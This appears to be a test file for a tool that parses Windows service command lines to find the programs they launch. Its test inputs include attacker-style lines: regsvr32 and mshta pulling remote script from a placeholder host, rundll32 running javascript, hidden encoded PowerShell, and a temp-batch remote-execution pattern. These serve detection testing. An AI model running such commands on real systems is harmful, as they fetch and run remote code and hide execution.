import { expect, test } from 'vitest';
import { resolveCommandLine } from '../../../main/sources/windows/command-line.ts';
import { windowsEnvironment } from '../../../main/sources/windows/environment.ts';
import { hostedPrograms } from '../../../main/sources/windows/hosted-program.ts';

const env = windowsEnvironment();
const SYSTEM32 = 'C:\\Windows\\System32';

function hosted(command: string): string[] {
  return hostedPrograms(resolveCommandLine(command, 'service', env), env).map(
    ({ depth, target, arguments: rest }) => `${depth} ${target.path}${rest === '' ? '' : ` | ${rest}`}`,
  );
}

test.each<readonly [command: string, expected: readonly string[]]>([
  // cmd
  ['%COMSPEC% /c start "" /b C:\\x.exe -a', ['1 C:\\x.exe | -a']],
  ['%COMSPEC% /c start "C:\\x y.exe"', ['1 C:\\x y.exe']],
  ['cmd.exe /Q/c"C:\\x.bat"', ['1 C:\\x.bat']],
  ['cmd /c "C:\\a b\\z.bat" -a', ['1 C:\\a b\\z.bat | -a']],
  ['cmd /c ""C:\\a b\\z.bat" -a"', ['1 C:\\a b\\z.bat | -a']],
  ['cmd /k call C:\\x.cmd & C:\\y.exe > C:\\log', ['1 C:\\x.cmd', '1 C:\\y.exe']],
  ['cmd /c C:\\x.exe 2>nul', ['1 C:\\x.exe']],
  ['cmd /c p^o^w^ershell -f C:\\x.ps1', [`1 ${SYSTEM32}\\powershell.exe | -f C:\\x.ps1`, '2 C:\\x.ps1']],
  ['cmd /c echo x > C:\\y & cd.. & rem & :label', []],
  ['cmd C:\\x.exe', []],
  [
    '%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\e.bat & %COMSPEC% /Q /c %TEMP%\\e.bat & del %TEMP%\\e.bat',
    ['1 C:\\Windows\\system32\\cmd.exe | /Q /c C:\\Windows\\Temp\\e.bat', '2 C:\\Windows\\Temp\\e.bat'],
  ],
  // PowerShell
  ['powershell -NoP -ExecutionPolicy Bypass -File "C:\\a b\\x.ps1" -arg 1', ['1 C:\\a b\\x.ps1 | -arg 1']],
  ['powershell -w hidden -c "& \'C:\\x y\\z.ps1\' -k"', ['1 C:\\x y\\z.ps1 | -k']],
  ['pwsh.exe C:\\x.ps1', ['1 C:\\x.ps1']],
  ['powershell -enc SQBFAFgA', []],
  ['powershell -c Get-Date', []],
  // Libraries
  ['rundll32.exe "C:\\a b\\x.dll",Entry arg', ['1 C:\\a b\\x.dll | Entry arg']],
  ['rundll32 x.dll Entry', [`1 ${SYSTEM32}\\x.dll | Entry`]],
  [
    'rundll32 shell32.dll,ShellExec_RunDLL C:\\x.exe foo',
    [`1 ${SYSTEM32}\\shell32.dll | ShellExec_RunDLL C:\\x.exe foo`, '1 C:\\x.exe | foo'],
  ],
  ['rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"', []],
  ['regsvr32 /s /u /i:http://h/y.sct scrobj.dll', [`1 ${SYSTEM32}\\scrobj.dll`]],
  ['regsvr32 /s C:\\x.ocx', ['1 C:\\x.ocx']],
  // Scripts, installers, interpreters
  ['wscript.exe //B "C:\\x\\y.vbs" /foo', ['1 C:\\x\\y.vbs | /foo']],
  ['cscript C:\\x.js', ['1 C:\\x.js']],
  ['mshta http://h/x.hta', []],
  ['mshta C:\\x.hta', ['1 C:\\x.hta']],
  ['msiexec /i "C:\\x y\\z.msi" /qn', ['1 C:\\x y\\z.msi | /qn']],
  ['msiexec /iC:\\z.msi', ['1 C:\\z.msi']],
  ['msiexec /V', []],
  ['msiexec /x {0A1B}', []],
  ['"C:\\Python 3\\python3.11.exe" -u C:\\svc\\run.py --x', ['1 C:\\svc\\run.py | --x']],
  ['python -m http.server', []],
  ['python -c "import os"', []],
  ['node --require ./a.js C:\\s\\i.js', ['1 C:\\s\\i.js']],
  ['java -Xmx1g -jar C:\\x\\y.jar a', ['1 C:\\x\\y.jar | a']],
  ['java -cp C:\\x Main', []],
  ['dotnet C:\\x\\y.dll', ['1 C:\\x\\y.dll']],
  // Others
  ['dllhost.exe /Processid:{X}', []],
  ['conhost.exe --headless cmd /c C:\\x.bat', [`1 ${SYSTEM32}\\cmd.exe | /c C:\\x.bat`, '2 C:\\x.bat']],
  ['forfiles /p c:\\windows /m notepad.exe /c "C:\\e.exe -x"', ['1 C:\\e.exe | -x']],
  ['pcalua.exe -a C:\\e.exe', ['1 C:\\e.exe']],
  ['C:\\x\\ordinary.exe C:\\y.exe', []],
])('%s', (command, expected) => {
  expect(hosted(command)).toEqual(expected);
});

test('goes no deeper than three', () => {
  const nested = 'cmd /c '.repeat(6);
  expect(hosted(`${nested}C:\\x.exe`).map((line) => line[0])).toEqual(['1', '2', '3']);
});

test.each([
  `cmd /c ${'start '.repeat(5_000)}`,
  `cmd /c ${'&'.repeat(30_000)}`,
  `cmd /c ${'"'.repeat(30_000)}`,
  `powershell -c ${' "'.repeat(15_000)}`,
  `powershell -c & 'C:\\x.ps1'${' '.repeat(30_000)}x`,
  `rundll32 ${','.repeat(30_000)}`,
  `msiexec ${'/i '.repeat(10_000)}`,
  `python ${'-u '.repeat(10_000)}`,
])('hostile text takes no time: %.20s', (command) => {
  const start = performance.now();
  expect(hosted(command).length).toBeLessThanOrEqual(16);
  expect(performance.now() - start).toBeLessThan(500);
});
